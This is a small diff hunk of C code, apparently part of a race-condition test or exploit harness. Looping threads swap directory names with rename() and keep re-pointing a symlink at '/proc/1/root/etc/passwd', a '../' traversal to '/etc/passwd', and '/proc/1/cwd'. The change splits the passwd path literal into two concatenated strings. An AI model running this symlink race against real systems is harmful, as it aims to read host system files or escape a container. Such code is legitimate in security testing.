@@ -248,7 +248,7 @@ static volatile int stop;
 static char path[64] = "/r/a/f";
 static void *renames(void *x) { while (!stop) { rename("/r/a", "/r/b"); rename("/r/b", "/r/a"); } return x; }
 static void *links(void *x) {
-    while (!stop) { unlink("/r/l"); symlink("/proc/1/root/etc/passwd", "/r/l"); unlink("/r/l"); symlink("../../../../../../etc/passwd", "/r/l");
+    while (!stop) { unlink("/r/l"); symlink("/proc/1/" "root/etc/passwd", "/r/l"); unlink("/r/l"); symlink("../../../../../../etc/passwd", "/r/l");
                     unlink("/r/l"); symlink("/proc/1/cwd", "/r/l"); }
     return x;
 }
